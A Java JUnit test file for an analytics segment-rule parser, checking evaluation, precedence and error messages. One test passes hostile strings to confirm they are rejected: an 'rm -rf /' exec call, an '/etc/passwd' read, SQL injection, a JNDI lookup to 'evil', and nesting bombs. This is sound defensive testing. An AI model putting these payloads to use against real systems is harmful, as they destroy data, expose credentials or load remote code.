package dev.rapport.analytics.segment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

class SegmentRuleTest {
  private static final Schema SCHEMA;

  static {
    Map<String, Schema.Type> f = new LinkedHashMap<>();
    f.put("stage", Schema.Type.TEXT);
    f.put("revenue", Schema.Type.NUMBER);
    f.put("days_since_last_seen", Schema.Type.NUMBER);
    f.put("frequency", Schema.Type.NUMBER);
    f.put("purchases", Schema.Type.NUMBER);
    f.put("rfm_segment", Schema.Type.TEXT);
    SCHEMA = new Schema(f);
  }

  /** stage, revenue, days_since_last_seen, frequency, purchases, rfm_segment. */
  private static Row row(
      String stage, double revenue, double days, double frequency, double purchases) {
    Object[] v = {stage, revenue, days, frequency, purchases, null};
    return new Row() {
      @Override
      public double number(int field) {
        return (Double) v[field];
      }

      @Override
      public String text(int field) {
        return (String) v[field];
      }
    };
  }

  private static boolean test(String rule, Row r) {
    return SegmentRule.parse(rule, SCHEMA).test(r);
  }

  private static void fails(String rule, int line, int column, String message) {
    assertThatThrownBy(() -> SegmentRule.parse(rule, SCHEMA))
        .isInstanceOf(RuleException.class)
        .hasMessageStartingWith("line " + line + ", column " + column + ": ")
        .hasMessageContaining(message);
  }

  @Test
  void theIssuesExample() {
    String rule =
        "stage in (\"loyalty\", \"advocacy\") and revenue > 500 and days_since_last_seen < 30";
    assertThat(test(rule, row("loyalty", 501, 29, 3, 4))).isTrue();
    assertThat(test(rule, row("advocacy", 900, 1, 3, 4))).isTrue();
    assertThat(test(rule, row("engagement", 900, 1, 3, 4))).isFalse();
    assertThat(test(rule, row("loyalty", 500, 1, 3, 4))).isFalse();
    assertThat(test(rule, row("loyalty", 900, 30, 3, 4))).isFalse();
  }

  @Test
  void precedenceNotAndOrParentheses_andCaseInsensitiveKeywords() {
    Row r = row("loyalty", 100, 10, 1, 2);
    assertThat(test("revenue > 1000 or revenue > 50 and purchases = 2", r)).isTrue();
    assertThat(test("(revenue > 1000 or revenue > 50) AND purchases = 3", r)).isFalse();
    assertThat(test("NOT stage = 'churned' and not (revenue < 10)", r)).isTrue();
    assertThat(test("stage not in ('churned', 'disengaged')", r)).isTrue();
    assertThat(test("purchases in (1, 2, 3) and stage != \"advocacy\"", r)).isTrue();
    assertThat(test("revenue >= 100 and revenue <= 100 and revenue == 100 and revenue <> 99", r))
        .isTrue();
    assertThat(test("purchases > frequency", r)).isTrue(); // field against field
    assertThat(test("revenue > -5.5", r)).isTrue();
  }

  @Test
  void unknownValuesCompareFalse() {
    Row nonBuyer = row("acquisition", 0, 3, Double.NaN, 0);
    assertThat(test("frequency >= 0", nonBuyer)).isFalse();
    assertThat(test("frequency != 1", nonBuyer)).isFalse();
    assertThat(test("not frequency >= 0", nonBuyer)).isTrue();
    assertThat(test("rfm_segment = 'lost'", nonBuyer)).isFalse();
    assertThat(test("rfm_segment not in ('lost')", nonBuyer)).isFalse();
  }

  @Test
  void malformedRulesSayWhereAndWhat() {
    fails("revenue >", 1, 10, "expected a number after revenue >, found the end of the rule");
    fails("revenue > abc", 1, 11, "unknown field 'abc'; text values need quotes");
    fails("stage = 5", 1, 9, "expected a quoted text after stage =");
    fails("stage > 'loyalty'", 1, 7, "text field stage takes = or !=, not >");
    fails("revenue 500", 1, 9, "expected a comparison (=, !=, <, <=, >, >=) or 'in' after revenue");
    fails("revenu > 5", 1, 1, "unknown field 'revenu'; expected one of stage, revenue,");
    fails("revenue > 5 and\n  (stage = 'x'", 2, 15, "expected ')' to close the '(' at column 3");
    fails("revenue > 5 purchases > 1", 1, 13, "expected 'and', 'or' or the end of the rule");
    fails("stage in ('a' 'b')", 1, 15, "expected ',' or ')' in the list");
    fails("stage = 'open", 1, 9, "text starting here is not closed");
    fails("", 1, 1, "the rule is empty");
    fails("revenue ! 5", 1, 9, "expected '!=' but found '!'");
    fails("revenue > 5 and stage = 'a' or", 1, 31, "expected a field name");
    fails("revenue = purchases and stage = revenue", 1, 33, "cannot compare stage with revenue");
  }

  @Test
  void hostileRulesAreRejectedCleanly() {
    // Method calls, file access, SQL injection: nothing but the schema's fields can be named.
    fails("java.lang.Runtime.getRuntime().exec('rm -rf /')", 1, 5, "unexpected character '.'");
    fails("read_file('/etc/passwd') = 'x'", 1, 1, "unknown field 'read_file'");
    fails("revenue > 1; DROP TABLE profiles", 1, 12, "unexpected character ';'");
    fails("stage = 'x' OR 1=1 --", 1, 20, "unexpected character '-'");
    fails("stage = 'x' OR 1=1", 1, 16, "expected a field name");
    fails("' or ''='", 1, 1, "expected a field name");
    fails("stage = `whoami`", 1, 9, "unexpected character '`'");
    fails("${jndi:ldap://evil/a} = 1", 1, 1, "unexpected character '$'");
    fails("revenue > 1 \u0000", 1, 13, "unexpected character '\\u0000'");
    // Exhausting the stack or memory: nesting, repetition and length are bounded.
    fails("(".repeat(4_000) + "revenue > 1" + ")".repeat(4_000), 1, 33, "nests deeper than 32");
    fails("not ".repeat(2_000) + "revenue > 1", 1, 129, "nests deeper than 32");
    fails("revenue > 1 and ".repeat(700) + "revenue > 1", 1, 1, "characters long; at most 10000");
    fails("revenue > 1 or ".repeat(550) + "revenue > 1", 1, 7501, "more than 500 comparisons");
    StringBuilder list = new StringBuilder("purchases in (0");
    for (int i = 1; i <= 1_200; i++) {
      list.append(',').append(i);
    }
    fails(list.append(")").toString(), 1, 3905, "more than 1000 values in a list");
  }
}
